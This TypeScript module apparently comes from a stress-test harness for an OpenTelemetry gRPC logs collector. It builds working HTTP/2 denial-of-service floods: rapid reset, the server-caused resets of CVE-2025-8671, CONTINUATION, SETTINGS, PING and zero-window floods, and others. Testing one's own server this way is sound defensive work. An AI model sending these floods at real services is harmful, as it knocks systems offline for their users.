import { FLAG, frame, headerBlock, MAX_WINDOW, PREFACE, SETTING, settingsFrame, TYPE, uint32 } from './http2-frames.ts';

/**
 * What a peer can send without effort, each meant to cost the server more than it costs the peer. A flood is opened once
 * per connection and then repeated until the connection ends.
 */
export interface Flood {
  readonly name: string;
  /** False: the attacker never reads, so that answers pile up. */
  readonly reads: boolean;
  /** @param headers of a call, with or without a valid key */
  open(headers: Headers): Attack;
}

export interface Attack {
  /** Sent behind preface and SETTINGS. */
  readonly opening: Buffer;
  /** The next piece of the flood, about 64 KiB. */
  next(): Buffer;
}

export type Headers = Readonly<Record<string, string>>;

export const LOGS_PATH = '/opentelemetry.proto.collector.logs.v1.LogsService/Export';

/** Headers of a unary call to the logs service. */
export function callHeaders(key: string | undefined): Headers {
  return {
    ':method': 'POST',
    ':scheme': 'http',
    ':path': LOGS_PATH,
    ':authority': 'hanok',
    'content-type': 'application/grpc',
    te: 'trailers',
    ...(key === undefined ? {} : { authorization: `Bearer ${key}` }),
  };
}

export const HELLO = Buffer.concat([PREFACE, settingsFrame([])]);
const NOTHING = Buffer.alloc(0);
const PIECE_BYTES = 64 * 1024;
const WHOLE = FLAG.END_HEADERS | FLAG.END_STREAM;

/** The same bytes again and again. */
function repeated(one: Buffer, opening: Buffer = NOTHING): Attack {
  const piece = Buffer.concat(Array.from({ length: Math.max(1, Math.floor(PIECE_BYTES / one.length)) }, () => one));
  return { opening, next: () => piece };
}

/** One sequence of frames per stream, on ever new streams. */
function perStream(make: (id: number) => Buffer, opening: Buffer = NOTHING): Attack {
  let id = 101;
  return {
    opening,
    next: () => {
      const pieces: Buffer[] = [];
      for (let bytes = 0; bytes < PIECE_BYTES; id += 2) {
        const piece = make(id);
        pieces.push(piece);
        bytes += piece.length;
      }
      return Buffer.concat(pieces);
    },
  };
}

/** Server-caused resets, CVE-2025-8671: the peer breaks a rule of the stream, the server resets it. */
function madeYouReset(name: string, mistake: (id: number) => Buffer, flags: number = FLAG.END_HEADERS): Flood {
  return {
    name: `server-caused resets: ${name}`,
    reads: true,
    open: (headers) => {
      const block = headerBlock(headers);
      return perStream((id) => Buffer.concat([frame(TYPE.HEADERS, flags, id, block), mistake(id)]));
    },
  };
}

const windowUpdate = (id: number, by: number) => frame(TYPE.WINDOW_UPDATE, 0, id, uint32(by));
const zeroWindow = settingsFrame([[SETTING.INITIAL_WINDOW_SIZE, 0]]);
const hundredCalls = (headers: Headers) =>
  Buffer.concat(Array.from({ length: 50 }, (_, i) => frame(TYPE.HEADERS, WHOLE, 2 * i + 1, headerBlock(headers))));

export const FLOODS: readonly Flood[] = [
  {
    name: 'rapid reset',
    reads: true,
    open: (headers) => {
      const block = headerBlock(headers);
      return perStream((id) =>
        Buffer.concat([
          frame(TYPE.HEADERS, FLAG.END_HEADERS, id, block),
          // CANCEL
          frame(TYPE.RST_STREAM, 0, id, uint32(8)),
        ]),
      );
    },
  },
  madeYouReset('a window of nothing', (id) => windowUpdate(id, 0)),
  madeYouReset('a window beyond the largest', (id) => windowUpdate(id, MAX_WINDOW)),
  madeYouReset('DATA after the end', (id) => frame(TYPE.DATA, 0, id, Buffer.alloc(1)), WHOLE),
  madeYouReset('HEADERS after the end', (id) => frame(TYPE.HEADERS, WHOLE, id, NOTHING), WHOLE),
  madeYouReset('a stream that depends on itself', (id) =>
    frame(TYPE.PRIORITY, 0, id, Buffer.concat([uint32(id), Buffer.of(1)])),
  ),
  {
    name: 'WINDOW_UPDATE of the connection',
    reads: true,
    open: () => repeated(windowUpdate(0, 1)),
  },
  {
    name: 'WINDOW_UPDATE behind a window of zero, never reading',
    reads: false,
    open: (headers) => repeated(windowUpdate(0, 1), Buffer.concat([zeroWindow, hundredCalls(headers)])),
  },
  {
    name: 'SETTINGS of 2,730 entries behind a window of zero, never reading',
    reads: false,
    open: (headers) =>
      repeated(
        // As many as fit into a frame of 16,384 bytes.
        settingsFrame(Array.from({ length: 2_730 }, () => [SETTING.INITIAL_WINDOW_SIZE, 0] as const)),
        Buffer.concat([zeroWindow, hundredCalls(headers)]),
      ),
  },
  { name: 'SETTINGS without entries', reads: true, open: () => repeated(settingsFrame([])) },
  {
    name: 'SETTINGS that move the window of open streams',
    reads: true,
    open: (headers) =>
      repeated(
        settingsFrame(Array.from({ length: 2_730 }, (_, i) => [SETTING.INITIAL_WINDOW_SIZE, 1_000 + (i % 2)] as const)),
        Buffer.concat(
          Array.from({ length: 100 }, (_, i) => frame(TYPE.HEADERS, FLAG.END_HEADERS, 2 * i + 1, headerBlock(headers))),
        ),
      ),
  },
  { name: 'PING', reads: true, open: () => repeated(frame(TYPE.PING, 0, 0, Buffer.alloc(8))) },
  { name: 'PING, never reading', reads: false, open: () => repeated(frame(TYPE.PING, 0, 0, Buffer.alloc(8))) },
  {
    name: 'empty CONTINUATION',
    reads: true,
    open: (headers) => ({
      ...repeated(frame(TYPE.CONTINUATION, 0, 1, NOTHING)),
      opening: frame(TYPE.HEADERS, 0, 1, headerBlock(headers)),
    }),
  },
  {
    name: 'CONTINUATION of large headers',
    reads: true,
    open: (headers) => ({
      ...repeated(frame(TYPE.CONTINUATION, 0, 1, headerBlock({ x: 'y'.repeat(16_000) }))),
      opening: frame(TYPE.HEADERS, 0, 1, headerBlock(headers)),
    }),
  },
  {
    name: 'headers as large as allowed',
    reads: true,
    open: (headers) => {
      const block = headerBlock({ ...headers, 'x-long': 'y'.repeat(15_000) });
      return perStream((id) => frame(TYPE.HEADERS, WHOLE, id, block));
    },
  },
  {
    name: 'empty DATA',
    reads: true,
    open: (headers) =>
      repeated(frame(TYPE.DATA, 0, 1, NOTHING), frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, headerBlock(headers))),
  },
  {
    name: 'DATA of one byte',
    reads: true,
    open: (headers) => {
      const block = headerBlock(headers);
      const prefix = Buffer.from([0, 0, 0, 0x80, 0]);
      return perStream((id) =>
        Buffer.concat([
          frame(TYPE.HEADERS, FLAG.END_HEADERS, id, block),
          frame(TYPE.DATA, 0, id, prefix),
          ...Array.from({ length: 4_000 }, () => frame(TYPE.DATA, 0, id, Buffer.of(0))),
        ]),
      );
    },
  },
  {
    name: 'DATA of padding',
    reads: true,
    open: (headers) => {
      const padding = Buffer.alloc(256);
      padding[0] = 255;
      return repeated(
        frame(TYPE.DATA, FLAG.PADDED, 1, padding),
        frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, headerBlock(headers)),
      );
    },
  },
  {
    name: 'PRIORITY',
    reads: true,
    open: () => repeated(frame(TYPE.PRIORITY, 0, 1, Buffer.concat([uint32(3), Buffer.of(1)]))),
  },
  { name: 'frames of an unknown type', reads: true, open: () => repeated(frame(0x77, 0, 0, NOTHING)) },
  {
    name: 'calls that are refused',
    reads: true,
    open: (headers) => {
      // A good key, and an encoding that nobody has.
      const block = headerBlock({ ...headers, 'grpc-encoding': 'none-such' });
      return perStream((id) => frame(TYPE.HEADERS, WHOLE, id, block));
    },
  },
  {
    name: 'calls of a method that is not there',
    reads: true,
    open: (headers) => {
      const block = headerBlock({ ...headers, ':path': '/nobody.Service/Export' });
      return perStream((id) => frame(TYPE.HEADERS, WHOLE, id, block));
    },
  },
  {
    name: 'more calls than may be open',
    reads: true,
    open: (headers) => {
      const block = headerBlock(headers);
      return perStream((id) => frame(TYPE.HEADERS, FLAG.END_HEADERS, id, block));
    },
  },
];
